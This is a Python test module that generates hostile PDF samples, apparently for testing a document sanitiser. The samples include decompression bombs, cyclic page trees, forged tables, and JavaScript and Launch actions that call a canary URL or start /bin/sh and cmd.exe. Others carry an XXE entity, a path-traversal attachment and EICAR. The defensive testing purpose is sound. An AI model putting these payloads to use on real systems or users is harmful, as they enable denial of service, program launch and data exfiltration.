"""Hostile PDFs, written object by object: bombs, circles, lies, scripts, calls to the outside."""

import io
import struct
import zlib
from collections.abc import Callable
from functools import cache

import pikepdf

from safeconduct.evidence import papers
from tests.hostile.files.kinds import EICAR, MARKER, PIXELS, Canary, Gallery

pdfs = Gallery()
CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"
PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
GIB = 1024 * 1024 * 1024


def page(more: bytes = b"", contents: bytes = b"4 0 R") -> bytes:
    return b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]/Contents %s%s>>" % (contents, more)


def stream(data: bytes, words: bytes = b"") -> bytes:
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (words, len(data), data)


def flat(data: bytes, words: bytes = b"") -> bytes:
    return stream(zlib.compress(data, 9), b"/Filter/FlateDecode" + words)


@cache
def bomb(piece: bytes, size: int, times: int = 1) -> tuple[bytes, bytes]:
    """`size` bytes of a repeated piece, compressed again and again; and the words that undo it.

    One block is compressed and its code repeated: a full flush forgets what came before, so each stands by itself.
    """
    block = piece * (1024 * 1024 // len(piece))
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    code, total, check = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH), size // len(block), 1
    for _time in range(total):
        check = zlib.adler32(block, check)
    packed = b"\x78\xda" + code * total + b"\x03\x00" + struct.pack(">I", check)
    for _time in range(times - 1):
        packed = zlib.compress(packed, 9)
    return packed, b"/Filter[" + b"/FlateDecode" * times + b"]"


def written(*objects: bytes, trailer: bytes = b"", shift: int = 0) -> bytes:
    """A file of these objects, numbered from 1; `shift` makes each place in its table wrong by so many bytes."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, content in enumerate(objects, 1):
        places.append(len(out) + shift)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    begin = len(out) + shift
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, begin)
    return bytes(out)


DRAWING = stream(b"0 0 1 rg 20 20 200 200 re f")


def drawn(*more: bytes, words: bytes = b"", catalog: bytes = CATALOG, contents: bytes = DRAWING) -> bytes:
    """A sound page with a drawing; `more` objects follow from number 5."""
    return written(catalog, PAGES, page(words), contents, *more)


@pdfs("pdf cut in the middle", "Damaged", PIXELS)
def cut() -> bytes:
    whole = papers.pdf("x", pages=3)
    return whole[: len(whole) // 2] + b"\n%%EOF\n"


@pdfs("pdf whose pages are a circle", "Damaged", PIXELS)
def circle() -> bytes:
    return written(
        CATALOG, b"<</Type/Pages/Kids[3 0 R]/Count 9>>", b"<</Type/Pages/Parent 3 0 R/Kids[2 0 R 3 0 R]/Count 9>>"
    )


@pdfs("pdf whose pages stand 20,000 folders deep", "Damaged", "TooManyPages", PIXELS, heavy=True)
def deep_pages() -> bytes:
    folders = [b"<</Type/Pages/Parent %d 0 R/Kids[%d 0 R]/Count 1>>" % (at, at + 2) for at in range(1, 20_000)]
    return written(CATALOG, *folders, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>")


@pdfs("pdf that claims two thousand million pages", PIXELS, "TooManyPages", "Damaged")
def many_claimed() -> bytes:
    return written(CATALOG, b"<</Type/Pages/Kids[3 0 R]/Count 2147483647>>", page(), DRAWING)


@pdfs("pdf that claims fewer pages than none", "Damaged", PIXELS)
def negative() -> bytes:
    return written(CATALOG, b"<</Type/Pages/Kids[3 0 R]/Count -5>>", page(), DRAWING)


@pdfs("pdf whose page tree branches ten times at ten levels", "TooManyPages", "Damaged", "TooSlow")
def branching() -> bytes:
    folders = [
        b"<</Type/Pages/Kids[%s]/Count %d>>" % (b"%d 0 R " % (at + 1) * 10, 10 ** (12 - at)) for at in range(2, 12)
    ]
    return written(CATALOG, *folders, page(), DRAWING)


@pdfs("pdf with a stream of 1 GiB of spaces, packed three times", PIXELS, "Damaged", "TooSlow", heavy=True)
def spaces() -> bytes:
    return drawn(contents=stream(*bomb(b" ", GIB, 3)))


@pdfs("pdf with 256 MiB of saved states", PIXELS, "Damaged", "TooSlow", heavy=True)
def states() -> bytes:
    return drawn(contents=stream(*bomb(b"q ", GIB // 4, 2)))


@pdfs("pdf whose streams are packed by a bomb of objects", "Damaged", PIXELS, heavy=True)
def object_stream() -> bytes:
    packed, words = bomb(b"0 ", GIB, 2)
    return drawn(stream(packed, b"/Type/ObjStm/N 2147483647/First 2147483647" + words), words=b"/Extra 9 0 R")


def indexed(size: int, index: bytes, rows: bytes, more: bytes = b"", filters: bytes = b"") -> bytes:
    """A file whose table is a stream."""
    start = written(CATALOG, PAGES, page(), DRAWING).partition(b"xref\n")[0]
    words = b"/Type/XRef/Size %d/Index[%s]/W[1 4 2]/Root 1 0 R%s%s" % (size, index, more, filters)
    return start + b"5 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (stream(rows, words), len(start))


@pdfs("pdf with a table of two thousand million rows", "Damaged", PIXELS)
def huge_table() -> bytes:
    return indexed(2147483647, b"0 2147483647", b"\1\0\0\0\t\0\0" * 5)


@pdfs("pdf whose table unpacks to 1 GiB", "Damaged", PIXELS, heavy=True)
def table_bomb() -> bytes:
    packed, words = bomb(b"\1\0\0\0\t\0\0", GIB, 2)
    return indexed(100_000_000, b"0 100000000", packed, filters=words)


@pdfs("pdf whose table follows itself", "Damaged", PIXELS)
def table_circle() -> bytes:
    start = len(written(CATALOG, PAGES, page(), DRAWING).partition(b"xref\n")[0])
    return indexed(6, b"0 6", b"\1\0\0\0\t\0\0" * 6, b"/Prev %d" % start)


@pdfs("pdf whose table is wrong everywhere", PIXELS, "Damaged")
def wrong_table() -> bytes:
    return written(CATALOG, PAGES, page(), DRAWING, shift=7)


@pdfs("pdf with an array a million deep", PIXELS, "Damaged", heavy=True)
def deep_array() -> bytes:
    return drawn(words=b"/Deep " + b"[" * 1_000_000 + b"]" * 1_000_000)


@pdfs("pdf whose drawing draws itself", PIXELS, "Damaged", "TooSlow", heavy=True)
def draws_itself() -> bytes:
    form = stream(b"/F Do /F Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F 5 0 R>>>>")
    return drawn(form, words=b"/Resources<</XObject<</F 5 0 R>>>>", contents=stream(b"/F Do"))


@pdfs("pdf whose drawing draws ten others, twelve times over", "TooSlow", PIXELS, "Damaged", heavy=True)
def fans_out() -> bytes:
    forms = [
        stream(
            b"/F Do " * 10,
            b"/Type/XObject/Subtype/Form/BBox[0 0 300 300]/Resources<</XObject<</F %d 0 R>>>>" % (at + 1),
        )
        for at in range(5, 17)
    ]
    last = stream(b"0 0 300 300 re f", b"/Type/XObject/Subtype/Form/BBox[0 0 300 300]")
    return drawn(*forms, last, words=b"/Resources<</XObject<</F 5 0 R>>>>", contents=stream(b"/F Do"))


def with_image(words: bytes, data: bytes) -> bytes:
    image = stream(data, b"/Type/XObject/Subtype/Image/BitsPerComponent 8/ColorSpace/DeviceRGB" + words)
    return drawn(image, words=b"/Resources<</XObject<</I 5 0 R>>>>", contents=stream(b"300 0 0 300 0 0 cm /I Do"))


@pdfs("pdf with a picture of ten thousand megapixels", PIXELS, "Damaged", heavy=True)
def huge_image() -> bytes:
    packed, words = bomb(b"\0", GIB, 2)
    return with_image(b"/Width 100000/Height 100000" + words, packed)


@pdfs("pdf with a fax of 65,535 by 65,535", PIXELS, "Damaged", "TooSlow", heavy=True)
def fax() -> bytes:
    words = b"/Width 65535/Height 65535/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns 65535/Rows 65535>>"
    return with_image(words, b"\x00" * 5000).replace(
        b"BitsPerComponent 8/ColorSpace/DeviceRGB", b"BitsPerComponent 1/ColorSpace/DeviceGray"
    )


@pdfs("pdf with a JBIG2 page of four thousand million rows", PIXELS, "Damaged", heavy=True)
def jbig2() -> bytes:
    segment = struct.pack(">IBBBI", 0, 48, 0, 1, 19) + struct.pack(">IIIIBH", 65535, 0xFFFFFFFE, 0, 0, 0, 0)
    words = b"/Width 65535/Height 65535/Filter/JBIG2Decode"
    return with_image(words, segment).replace(
        b"BitsPerComponent 8/ColorSpace/DeviceRGB", b"BitsPerComponent 1/ColorSpace/DeviceGray"
    )


@pdfs("pdf on a sheet of a thousand million points", PIXELS, "Damaged")
def huge_sheet() -> bytes:
    return drawn().replace(b"[0 0 300 300]", b"[0 0 1e9 1e9]/UserUnit 1e9")


@pdfs("pdf on a sheet that is a line", PIXELS, "Damaged")
def thin_sheet() -> bytes:
    return drawn().replace(b"[0 0 300 300]", b"[0 0 1e9 1e-9]")


@pdfs("pdf on a sheet of no numbers", PIXELS, "Damaged")
def odd_sheet() -> bytes:
    return drawn().replace(b"[0 0 300 300]", b"[null (x) 5 0 R <</a 1>>]")


@pdfs("pdf painted with a tile of a millionth of a point", PIXELS, "Damaged", "TooSlow")
def tiles() -> bytes:
    words = b"/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep 1e-6/YStep 1e-6/Resources<<>>"
    resources = b"/Resources<</Pattern<</P 5 0 R>>>>"
    return drawn(
        stream(b"0 0 1 1 re f", words), words=resources, contents=stream(b"/Pattern cs /P scn 0 0 300 300 re f")
    )


@pdfs("pdf that asks a function of two thousand million samples", PIXELS, "Damaged")
def samples() -> bytes:
    function = stream(
        b"\0" * 99, b"/FunctionType 0/Domain[0 1 0 1]/Range[0 1 0 1 0 1]/Size[65535 32767]/BitsPerSample 32"
    )
    shading = b"<</ShadingType 1/ColorSpace/DeviceRGB/Function 5 0 R>>"
    return drawn(function, shading, words=b"/Resources<</Shading<</S 6 0 R>>>>", contents=stream(b"/S sh"))


@pdfs("pdf whose length of a stream is that stream", PIXELS, "Damaged")
def own_length() -> bytes:
    return drawn(b"<</Length 5 0 R>>stream\nx\nendstream", contents=b"<</Length 4 0 R>>stream\n0 0 9 9 re f\nendstream")


@pdfs("pdf with 50,000 fields whose parents are a circle", PIXELS, "Damaged", "TooSlow", heavy=True)
def fields() -> bytes:
    kids = b" ".join(b"%d 0 R" % number for number in range(6, 50_006))
    form = b"<</Fields[%s]/DA(/F 0 Tf)/NeedAppearances true>>" % kids
    field = b"<</FT/Tx/Subtype/Widget/Rect[0 0 9 9]/T(x)/V(x)/Parent 6 0 R/Kids[6 0 R]/P 3 0 R>>"
    catalog = b"<</Type/Catalog/Pages 2 0 R/AcroForm 5 0 R>>"
    return drawn(form, *[field] * 50_000, words=b"/Annots[6 0 R]", catalog=catalog)


ACTIONS = {
    "a script": b"/S/JavaScript/JS(%s; app.launchURL\\('{url}'\\); this.submitForm\\('{url}'\\))" % MARKER,
    "a program to start": b"/S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc %s)>>" % MARKER,
    "an address to open": b"/S/URI/URI({url})",
    "a form to send": b"/S/SubmitForm/F<</FS/URL/F({url})>>/Flags 4",
    "data to import": b"/S/ImportData/F<</FS/URL/F({url})>>",
    "another file to show": b"/S/GoToR/F<</FS/URL/F({url})>>/D[0/Fit]",
    "a film from elsewhere": b"/S/Rendition/OP 0/R<</S/MR/C<</S/MCD/D<</FS/URL/F({url})>>>>>>",
}


def _acts(action: bytes) -> Callable[[Canary], bytes]:
    def make(canary: Canary) -> bytes:
        act = b"<<" + action.replace(b"{url}", canary.url) + b">>"
        catalog = b"<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R/AA<</WC 5 0 R/DS 5 0 R>>>>"
        link = b"<</Type/Annot/Subtype/Link/Rect[0 0 300 300]/A 5 0 R/AA<</PO 5 0 R/PV 5 0 R>>>>"
        return drawn(act, link, words=b"/AA<</O 5 0 R>>/Annots[6 0 R]", catalog=catalog)

    return make


for _name, _action in ACTIONS.items():
    pdfs(f"pdf with {_name}", PIXELS)(_acts(_action))


@pdfs("pdf whose streams lie elsewhere", PIXELS, "Damaged")
def elsewhere(canary: Canary) -> bytes:
    address = b"<</FS/URL/F(%s)>>" % canary.url
    words = b"<</Type/XObject/Subtype/Image/Width 9/Height 9/BitsPerComponent 8/ColorSpace/DeviceGray/F %s/Length 0>>"
    image = words + b"stream\n\nendstream"
    secret = b"<</Type/Filespec/F(%s)>>" % canary.secret.encode()
    words = b"/Resources<</XObject<</I 5 0 R/J 6 0 R>>>>"
    return drawn(image % address, image % secret, words=words, contents=stream(b"/I Do /J Do"))


@pdfs("pdf with a form of the other kind (XFA) that calls out", PIXELS)
def xfa(canary: Canary) -> bytes:
    words = b"<!DOCTYPE a [<!ENTITY e SYSTEM '%s'>]>"
    words += b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><a href='%s'>&e;%s</a></xdp:xdp>"
    form = stream(words % (canary.url, canary.url, MARKER))
    return drawn(
        b"<</Fields[]/XFA 6 0 R>>", form, catalog=b"<</Type/Catalog/Pages 2 0 R/AcroForm 5 0 R/NeedsRendering true>>"
    )


@pdfs("pdf that carries a program and EICAR", PIXELS)
def carries() -> bytes:
    kept = io.BytesIO()
    with pikepdf.open(io.BytesIO(papers.pdf("Счёт"))) as document:
        document.attachments["../../x.exe"] = pikepdf.AttachedFileSpec(document, b"MZ" + MARKER)
        document.attachments["eicar.com"] = pikepdf.AttachedFileSpec(document, EICAR)
        document.save(kept, compress_streams=False)
    return kept.getvalue()


def locked(how: int) -> bytes:
    kept = io.BytesIO()
    with pikepdf.open(io.BytesIO(papers.pdf("тайна"))) as document:
        document.save(kept, encryption=pikepdf.Encryption(owner="x", user="y", R=how))
    return kept.getvalue()


@pdfs("pdf locked with AES-256", "Locked")
def locked_well() -> bytes:
    return locked(6)


@pdfs("pdf locked with RC4", "Locked")
def locked_badly() -> bytes:
    with_warning = pikepdf.Encryption(owner="x", user="y", R=3, aes=False, metadata=False)
    kept = io.BytesIO()
    with pikepdf.open(io.BytesIO(papers.pdf("тайна"))) as document:
        document.save(kept, encryption=with_warning)
    return kept.getvalue()


@pdfs("pdf locked by somebody unknown", "Damaged", "Locked")
def locked_oddly() -> bytes:
    lock = b"<</Filter/Nobody/V 99/R 99/Length 99999/O(x)/U(y)/P -1>>"
    return written(CATALOG, PAGES, page(), DRAWING, lock, trailer=b"/Encrypt 5 0 R/ID[(a)(b)]")


@pdfs("pdf with a font of nothing but lies", PIXELS, "Damaged")
def font() -> bytes:
    tables = b"".join(
        struct.pack(">4sIII", tag, 0, 0xFFFFFFF0, 0xFFFFFFFF) for tag in (b"glyf", b"loca", b"cmap", b"head")
    )
    program = struct.pack(">IHHHH", 0x00010000, 4, 64, 2, 0) + tables + b"\xff" * 4000
    font = b"<</Type/Font/Subtype/TrueType/BaseFont/X/FirstChar 0/LastChar 255/FontDescriptor 6 0 R>>"
    about = b"<</Type/FontDescriptor/FontName/X/Flags 4/FontBBox[0 0 1e9 1e9]/FontFile2 7 0 R>>"
    words = b"/Resources<</Font<</F 5 0 R>>>>"
    return drawn(font, about, stream(program), words=words, contents=stream(b"BT /F 1e9 Tf (xyz) Tj ET"))


@pdfs("pdf that says what it is after a page of nonsense", "UnknownFile", "Damaged", PIXELS, "NotTaken")
def late_head() -> bytes:
    return b"\x00nonsense " * 100 + drawn()


@pdfs("pdf whose colour is a profile of 1 GiB", PIXELS, "Damaged", heavy=True)
def profile() -> bytes:
    packed, words = bomb(b"\0", GIB, 2)
    resources = b"/Resources<</ColorSpace<</C[/ICCBased 5 0 R]>>>>"
    contents = stream(b"/C cs 1 0 0 sc 0 0 300 300 re f")
    return drawn(stream(packed, b"/N 3" + words), words=resources, contents=contents)
